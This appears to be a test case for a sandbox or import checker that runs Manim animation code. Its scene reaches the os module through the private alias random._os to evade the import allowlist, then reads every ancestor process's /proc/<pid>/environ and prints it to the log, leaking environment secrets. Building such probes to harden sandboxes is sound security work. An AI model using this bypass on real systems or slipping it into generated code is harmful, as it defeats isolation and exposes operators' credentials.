# ruff: noqa
# class: private-alias
# tries: `from random import _os` (a private alias of os inside an allowed module; from-imported
#   names are never checked) and print every ancestor's /proc/<pid>/environ into the log.
from manim import *
from random import _os as system


class Escape(Scene):
    def construct(self):
        pid = system.getppid()
        while pid > 1:
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    print("environ of", pid, handle.read().replace(b"\0", b"\n").decode(errors="replace"))
                with open(f"/proc/{pid}/status") as handle:
                    pid = int(next(line for line in handle if line.startswith("PPid:")).split()[1])
            except OSError as error:
                print("cannot read", pid, error)
                break
        self.play(FadeIn(Dot()), run_time=0.2)
